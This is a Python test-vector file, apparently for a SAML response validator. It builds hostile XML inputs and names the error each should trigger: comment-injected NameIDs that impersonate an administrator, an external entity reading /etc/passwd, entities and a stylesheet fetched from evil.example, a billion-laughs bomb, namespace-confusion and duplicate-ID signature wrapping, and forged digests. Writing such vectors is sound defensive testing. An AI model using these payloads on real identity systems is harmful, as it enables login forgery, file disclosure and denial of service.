"""What the XML itself may not be, whatever is signed."""

from documents import (
    ADA, ADMIN, ASSERTION_ID, DSIG, HEAD, IDP, NAME_ID, RESPONSE, RESPONSE_ID, SAML, SAMLP, STATUS, replaced,
)  # fmt: skip
from signing import digest_of, forged_digest, sign_assertion, signed_by_hand
from vectors import changed, said, vector

# A person whose name, cut at the comment, is the administrator's.
LONG = f"{ADMIN}.evil.example"


@vector(error="response_xml: comment", right=True)
def comment_in_name_id(k):
    """CVE-2017-11427: signed for admin@example.com.evil.example, a comment cuts it behind admin@example.com."""
    text = sign_assertion(replaced(RESPONSE, f">{ADA}</saml:NameID>", f">{LONG}</saml:NameID>"), k.idp)
    return replaced(text, LONG, f"{ADMIN}<!-- -->.evil.example")


@vector(error="response_xml: comment", right=True)
def comment_in_attribute_value(k):
    """The same in an attribute's value."""
    return replaced(k.assertion, ">staff<", ">sta<!-- -->ff<")


changed("comment_in_issuer", "response_xml: comment", f">{IDP}<", f">{IDP}<!-- x --><", "A comment in the Issuer.", which=1, of=2, right=True)
changed("comment_between_elements", "response_xml: comment", "<saml:Subject>", "<!-- x --><saml:Subject>", "A comment between elements.", right=True)
changed("comment_outside_what_is_signed", "response_xml: comment", STATUS, STATUS + "<!-- x -->", "A comment in the unsigned Response.", right=True)
changed("processing_instruction", "response_xml: processing_instruction", STATUS, STATUS + "<?x y?>", "A processing instruction.", right=True)
changed(
    "processing_instruction_for_stylesheet", "response_xml: processing_instruction", "<samlp:Response ",
    '<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?><samlp:Response ',
    "A stylesheet for the message.", right=True,
)  # fmt: skip
said(
    "processing_instruction_in_name_id", "response_xml: processing_instruction", f">{ADA}<", f">{ADA}<?x y?>.evil.example<",
    "A processing instruction in the signed NameID: canonicalisation keeps it, readers of the text differ.", of=2,
)  # fmt: skip


def with_type(text: str, declarations: str) -> str:
    return f"<!DOCTYPE samlp:Response [{declarations}]>{text}"


@vector(error="response_xml: document_type", right=True)
def doctype(k):
    """A document type declaration that declares nothing."""
    return f"<!DOCTYPE samlp:Response>{k.assertion}"


@vector(error="response_xml: malformed")
def doctype_in_lower_case(k):
    """Not even XML, but looked for by hand."""
    return f"<!doctype samlp:Response>{k.assertion}"


@vector(error="response_xml: document_type")
def entity_in_name_id(k):
    """An entity of the document's own gives the NameID."""
    text = replaced(k.assertion, f">{ADA}</saml:NameID>", ">&who;</saml:NameID>")
    return with_type(text, f'<!ENTITY who "{ADA}">')


@vector(error="response_xml: document_type")
def external_entity_in_name_id(k):
    """An entity from a file of the server."""
    text = replaced(k.assertion, f">{ADA}</saml:NameID>", ">&who;</saml:NameID>")
    return with_type(text, '<!ENTITY who SYSTEM "file:///etc/passwd">')


@vector(error="response_xml: document_type")
def external_parameter_entity(k):
    """A parameter entity fetched from elsewhere."""
    return with_type(k.assertion, '<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;')


@vector(error="response_xml: document_type")
def entity_bomb(k):
    """A billion laughs."""
    laughs = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    text = replaced(k.assertion, f">{ADA}</saml:NameID>", ">&l9;</saml:NameID>")
    return with_type(text, laughs)


@vector(error="response_xml: document_type")
def attribute_default_from_doctype(k):
    """The document type gives the evil Assertion's element its attributes."""
    return with_type(k.assertion, '<!ATTLIST saml:NameID SPProvidedID CDATA "admin">')


@vector(error="response_xml: malformed")
def undeclared_entity(k):
    """An entity that nothing declares."""
    return replaced(k.assertion, f">{ADA}</saml:NameID>", ">&who;</saml:NameID>")


def tail(name, error, bytes_, about):
    vector(error=error)(named(name, about, lambda k: k.assertion.encode() + bytes_))


def named(name, about, make):
    make.__name__, make.__doc__ = name, about
    return make


tail("malformed_tail_text", "response_xml: malformed", b"x", "A letter behind the end.")
tail("malformed_tail_element", "response_xml: malformed", b"<samlp:Response/>", "A second document element.")
tail("malformed_tail_nul", "response_xml: malformed", b"\0", "A NUL behind the end.")
tail("malformed_tail_comment", "response_xml: comment", b"<!-- x -->", "A comment behind the end.")
tail("malformed_tail_not_utf8", "response_xml: not_utf8", b"\xff", "A byte behind the end that is not UTF-8.")


@vector(error="response_xml: malformed")
def malformed_head_text(k):
    """A letter before the beginning."""
    return "x" + k.assertion


@vector(error="response_xml: malformed")
def malformed_truncated(k):
    """The last byte is missing."""
    return k.assertion[:-1]


@vector(error="response_xml: malformed")
def malformed_undeclared_prefix(k):
    """An element whose prefix is declared nowhere."""
    return replaced(k.assertion, STATUS, STATUS + "<evil:x/>")


@vector(error="response_xml: malformed")
def malformed_attribute_twice(k):
    """The ID twice on one element."""
    return replaced(k.assertion, f' ID="{ASSERTION_ID}"', f' ID="{ASSERTION_ID}" ID="_other"')


@vector(error="response_xml: malformed")
def malformed_attribute_twice_by_namespace(k):
    """Two attributes that are one by their namespace."""
    return replaced(k.assertion, "<samlp:Status>", '<samlp:Status xmlns:a="u:x" xmlns:b="u:x" a:y="1" b:y="2">')


@vector(error="response_xml: malformed")
def malformed_control_character(k):
    """A reference to a character that XML 1.0 does not have."""
    return replaced(k.assertion, f">{ADA}</saml:NameID>", f">{ADA}&#0;</saml:NameID>")


@vector(error="response_xml: malformed")
def malformed_xml_prefix_bound_elsewhere(k):
    """The prefix xml bound to something else."""
    return replaced(k.assertion, "<samlp:Status>", '<samlp:Status xmlns:xml="urn:evil">')


@vector(error="response_xml: malformed")
def malformed_empty(k):
    """Nothing."""
    return ""


@vector(error="response_xml: not_utf8")
def utf16(k):
    """UTF-16, with a byte order mark."""
    return k.assertion.encode("utf-16")


@vector(error="response_xml: malformed")
def utf16_without_mark(k):
    """UTF-16 without a byte order mark, which is UTF-8 with NULs."""
    return k.assertion.encode("utf-16-le")


@vector(error="response_xml: not_utf8")
def latin1(k):
    """A letter in Latin-1, rightly declared, rightly signed."""
    text = sign_assertion(replaced(RESPONSE, ">staff<", ">Größe<"), k.idp)
    return b'<?xml version="1.0" encoding="ISO-8859-1"?>' + text.encode("latin-1")


@vector(error="response_xml: declaration", right=True)
def declared_utf16(k):
    """UTF-8 that calls itself Latin-1."""
    return '<?xml version="1.0" encoding="ISO-8859-1"?>' + k.assertion


@vector(error="response_xml: declaration")
def xml_1_1(k):
    """XML 1.1, which has other characters and line ends."""
    return '<?xml version="1.1"?>' + k.assertion


@vector(error="response_xml: malformed")
def too_deep(k):
    """Elements in elements, a thousand of them."""
    return replaced(k.assertion, "<samlp:Status>", "<samlp:Status>" + "<x>" * 1000 + "</x>" * 1000)


@vector(error="not_a_response", right=True)
def wrong_root_assertion(k):
    """The signed Assertion alone."""
    return k.assertion[len(HEAD) : -len("</samlp:Response>")]


@vector(error="not_a_response", right=True)
def wrong_root_in_another_element(k):
    """The signed Response in a SOAP envelope."""
    envelope = "http://schemas.xmlsoap.org/soap/envelope/"
    return f'<s:Envelope xmlns:s="{envelope}"><s:Body>{k.response}</s:Body></s:Envelope>'


@vector(error="not_a_response")
def wrong_root_logout_response(k):
    """A message of the same form by another name."""
    return k.assertion.replace("samlp:Response", "samlp:LogoutResponse")


@vector(error="not_a_response")
def evil_namespace_response(k):
    """A Response of another namespace."""
    return replaced(k.assertion, f'xmlns:samlp="{SAMLP}"', 'xmlns:samlp="urn:oasis:names:tc:SAML:1.0:protocol"')


@vector(error="not_a_response")
def evil_no_namespace_response(k):
    """A Response of no namespace around the signed Assertion."""
    return k.assertion.replace("samlp:", "").replace("xmlns:samlp=", "xmlns:unused=")


@vector(error="assertion_misplaced")
def evil_namespace_assertion(k):
    """The one Assertion is of another namespace, and rightly signed."""
    text = RESPONSE.replace(f'<saml:Assertion xmlns:saml="{SAML}"', '<saml:Assertion xmlns:saml="urn:evil"')
    return sign_assertion(text, k.idp)


@vector(error="assertion_misplaced", right=True)
def evil_namespace_assertion_before(k):
    """An Assertion of another namespace before the genuine one: who compares local names only takes that."""
    evil = '<e:Assertion xmlns:e="urn:evil"><e:Subject><e:NameID>%s</e:NameID></e:Subject></e:Assertion>' % ADMIN
    return replaced(k.assertion, STATUS, STATUS + evil)


@vector(error="not_signed")
def evil_namespace_signature(k):
    """The Signature is of a namespace that only looks like XML Signature's."""
    return replaced(k.assertion, f'xmlns:ds="{DSIG}"', f'xmlns:ds="{DSIG[:-1]}"')


@vector(error="unexpected", right=True)
def evil_namespace_name_id(k):
    """A NameID of another namespace before the genuine one, all signed."""
    evil = f'<e:NameID xmlns:e="urn:evil">{ADMIN}</e:NameID>'
    return sign_assertion(replaced(RESPONSE, NAME_ID, evil + NAME_ID), k.idp)


@vector(error="digest_mismatch")
def evil_namespace_rebound(k):
    """The Assertion's prefix is bound anew on an element within."""
    return replaced(k.assertion, "<saml:Subject>", '<saml:Subject xmlns:saml="urn:evil">')


@vector(error="response_xml: malformed")
def canonicalisation_fails_on_a_relative_namespace(k):
    """CVE-2025-66568: a relative namespace URI stops libxml2's canonicalisation; who goes on has the digest of nothing.

    The DigestValue is that of nothing, rightly signed.
    """
    text = replaced(RESPONSE, "<saml:Subject>", '<saml:Subject xmlns:r="./relative"><r:x/>')
    return forged_digest(text, k.idp, ASSERTION_ID, digest_of(b""))


@vector(error="digest_mismatch")
def digest_of_nothing(k):
    """The DigestValue is that of no bytes at all, rightly signed."""
    return forged_digest(RESPONSE, k.idp, ASSERTION_ID, digest_of(b""))


@vector(error="response_xml: malformed")
def relative_namespace_outside(k):
    """A relative namespace URI on the unsigned Response, inherited by what is signed."""
    return replaced(k.assertion, "<samlp:Response ", '<samlp:Response xmlns:r="../relative" ')


ID_ON_STATUS = "The same identifier on an element of the unsigned Response too, spelt %s."
for spelling in ("ID", "Id", "id", "xml:id"):
    changed(
        f"duplicate_id_spelt_{spelling.replace(':', '_')}", "id_not_unique", "<samlp:Status>",
        f'<samlp:Status {spelling}="{ASSERTION_ID}">', ID_ON_STATUS % spelling,
    )  # fmt: skip


@vector(error="id_not_unique")
def duplicate_id_of_response_and_assertion(k):
    """Response and Assertion have one ID, and the Response is rightly signed by it."""
    return signed_by_hand(replaced(RESPONSE, ASSERTION_ID, RESPONSE_ID), k.idp, RESPONSE_ID)


@vector(error="id_not_unique")
def duplicate_id_in_extensions(k):
    """An element of the Extensions has the signed Assertion's ID, and comes first."""
    extra = f'<samlp:Extensions><e:x xmlns:e="urn:e" ID="{ASSERTION_ID}"/></samlp:Extensions>'
    return replaced(k.assertion, "<samlp:Status>", extra + "<samlp:Status>")


@vector(right=True)
def good_two_ids_on_one_element(k):
    """The Assertion has an Id of another value beside its ID, and is signed so; no other element has either."""
    return sign_assertion(replaced(RESPONSE, f'ID="{ASSERTION_ID}"', f'ID="{ASSERTION_ID}" Id="_other"'), k.idp)
